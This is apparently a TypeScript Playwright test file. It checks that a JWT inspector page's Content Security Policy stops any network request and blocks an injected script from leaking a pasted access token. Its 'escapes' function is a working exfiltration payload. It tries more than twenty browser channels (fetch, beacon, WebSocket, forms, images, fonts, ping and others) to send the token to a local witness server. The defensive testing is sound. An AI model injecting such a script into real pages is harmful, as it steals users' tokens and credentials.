import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launch, type Visitor, visit } from '../support/chromium.ts'
import { API } from '../support/fixtures.ts'
import type { Tokens } from '../support/house.ts'
import { type RunningWorker, startWorker } from '../support/running-worker.ts'
import { foreign, paste, pasteKey } from './inspector-steps.ts'

let browser: Browser
let house: RunningWorker
let tokens: Tokens
beforeAll(async () => {
  browser = await launch()
  house = await startWorker()
  tokens = await house.tokens()
}, 60_000)
afterAll(async () => {
  await browser?.close()
  await house?.stop()
})

async function open(): Promise<Visitor> {
  const visitor = await visit(browser, [house.issuer])
  await visitor.page.goto(`${house.issuer}/tools/jwt`)
  return visitor
}

/** Every way a page can speak, tried by a script that has got into it. Each answers what came of it. */
const escapes = (to: string) => `(async () => {
  const token = document.getElementById('token').value
  const url = ${JSON.stringify(to)} + '?token=' + token
  const blocked = []
  document.addEventListener('securitypolicyviolation', (event) =>
    blocked.push(event.effectiveDirective))
  const element = (tag, members) => {
    const made = Object.assign(document.createElement(tag), members)
    document.body.append(made)
    return made
  }
  const tried = {
    fetch: await fetch(url).then(() => 'sent', () => 'refused'),
    keepalive: await fetch(url, { method: 'POST', body: token, keepalive: true, mode: 'no-cors' })
      .then(() => 'sent', () => 'refused'),
    image: await new Promise((resolve) => {
      const image = new Image()
      image.onload = () => resolve('sent')
      image.onerror = () => resolve('refused')
      image.src = url
    }),
    xhr: await new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve('sent')
      request.onerror = () => resolve('refused')
      request.open('POST', url)
      request.send(token)
    }),
    webSocket: await new Promise((resolve) => {
      try {
        const socket = new WebSocket(url.replace('http', 'ws'))
        socket.onopen = () => resolve('sent')
        socket.onerror = () => resolve('refused')
      } catch {
        resolve('refused')
      }
    }),
    eventSource: await new Promise((resolve) => {
      const source = new EventSource(url)
      source.onopen = () => resolve('sent')
      source.onerror = () => { source.close(); resolve('refused') }
    }),
  }
  navigator.sendBeacon(url, token)
  const form = element('form', { action: url, method: 'post', target: '_self' })
  form.append(Object.assign(document.createElement('input'), { name: 'token', value: token }))
  form.submit()
  element('iframe', { src: url })
  element('object', { data: url })
  element('video', { src: url })
  if (new URL(url).origin !== location.origin) {
    // from home it takes styles and scripts, and nothing it has makes up an address for one
    element('link', { rel: 'prefetch', href: url })
    element('link', { rel: 'stylesheet', href: url })
    element('script', { src: url })
    await import(url).catch(() => {})
    try { new Worker(url) } catch {}
  }
  element('link', { rel: 'manifest', href: url })
  element('a', { ping: url, href: '#ping' }).click()
  const style = element('p', {})
  style.style.backgroundImage = 'url(' + url + ')'
  const face = new FontFace('x', 'url(' + url + ')')
  await face.load().catch(() => {})
  await new Promise((resolve) => setTimeout(resolve, 1000))
  return { tried, blocked }
})()`

describe('nothing leaves the token inspector', () => {
  let witness: Server
  let heard: string[]
  beforeAll(async () => {
    heard = []
    witness = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`)
      response.setHeader('Access-Control-Allow-Origin', '*').end('heard')
    })
    await once(witness.listen(0, '127.0.0.1'), 'listening')
  })
  afterAll(() => witness.close())

  it('CSP Level 3 §6.1 pasting a token, a key and expectations sends no request at all', async () => {
    const { context, page, complaints } = await open()
    await page.waitForLoadState('networkidle')
    const requests: string[] = []
    context.on('request', (request) => requests.push(request.url()))
    page.on('websocket', (socket) => requests.push(socket.url()))
    await paste(page, tokens.access_token)
    await page.getByLabel('Audience').fill(API)
    await page.getByLabel('Audience').press('Enter')
    await pasteKey(page, (await foreign('ES256')).pem, /The signature is wrong/)
    await page.waitForTimeout(1000)
    expect(requests).toEqual([])
    expect(new URL(page.url()).search).toBe('')
    expect(await page.evaluate('[document.cookie, ...Object.keys(localStorage)].join("")')).toBe('')
    expect(complaints).toEqual([])
    await context.close()
  })

  it.each(['to another house without going there', 'home by a connection, a form or a picture'])(
    'CSP Level 3 §6.1 not even a script inside it could send the token %s',
    async (where) => {
      const { context, page } = await open()
      await paste(page, tokens.access_token)
      const to = where.startsWith('home')
        ? `${house.issuer}/escaped`
        : `http://localhost:${(witness.address() as AddressInfo).port}/escaped`
      const answered: string[] = []
      context.on('response', (response) => answered.push(response.url()))
      const { tried, blocked } = (await page.evaluate(escapes(to))) as {
        tried: Record<string, string>
        blocked: string[]
      }
      expect(Object.entries(tried).filter(([, result]) => result !== 'refused')).toEqual([])
      const connects = blocked.filter((directive) => directive === 'connect-src')
      // fetch twice, XMLHttpRequest, WebSocket, EventSource, beacon, ping
      expect(connects.length).toBeGreaterThanOrEqual(7)
      expect(blocked).toEqual(
        expect.arrayContaining([
          'img-src',
          'form-action',
          'frame-src',
          'object-src',
          'media-src',
          'font-src',
        ]),
      )
      expect(answered).toEqual([])
      expect(heard).toEqual([])
      expect(page.url()).toMatch(/\/tools\/jwt(#ping)?$/)
      await context.close()
    },
  )

  it('the witness does hear who speaks to it', async () => {
    await fetch(`http://localhost:${(witness.address() as AddressInfo).port}/hello`)
    expect(heard).toContain('GET /hello')
  })
})
